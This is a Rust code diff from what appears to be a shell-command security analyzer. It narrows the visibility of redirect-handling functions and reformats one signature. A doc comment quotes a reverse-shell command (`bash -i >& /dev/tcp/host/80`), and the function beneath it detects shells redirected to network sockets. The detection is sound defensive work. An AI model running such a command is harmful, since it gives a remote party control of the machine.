@@ -8,7 +8,7 @@ use crate::shell::{Redirect, RedirectOp, RedirectTarget};
 use crate::{programs, rules};
 
 /// A file that takes the output of a command.
-pub struct OutputFile {
+pub(crate) struct OutputFile {
     target: String,
     append: bool,
     /// The normal output, not only the errors.
@@ -17,7 +17,7 @@ pub struct OutputFile {
 
 impl Evaluator<'_> {
     /// The stream the command reads, and the files it writes.
-    pub fn redirects(
+    pub(crate) fn redirects(
         &mut self,
         state: &mut ShellState,
         redirects: &[Redirect],
@@ -70,7 +70,12 @@ impl Evaluator<'_> {
     }
 
     /// `bash -i >& /dev/tcp/host/80`: whoever is at the other end holds the shell.
-    pub fn check_reverse_shell(&mut self, state: &ShellState, argv: &[String], outputs: &[OutputFile]) {
+    pub(crate) fn check_reverse_shell(
+        &mut self,
+        state: &ShellState,
+        argv: &[String],
+        outputs: &[OutputFile],
+    ) {
         let is_shell = argv.first().is_some_and(|name| programs::is_shell(name));
         if is_shell && outputs.iter().any(|output| is_socket(&output.target)) {
             self.report(&state.machine, &rules::NETWORK_SHELL, argv.join(" "));
@@ -78,7 +83,7 @@ impl Evaluator<'_> {
     }
 
     /// Judges the files that take `out`; returns what is left for the next in the pipe.
-    pub fn outputs(
+    pub(crate) fn outputs(
         &mut self,
         state: &mut ShellState,
         outputs: Vec<OutputFile>,
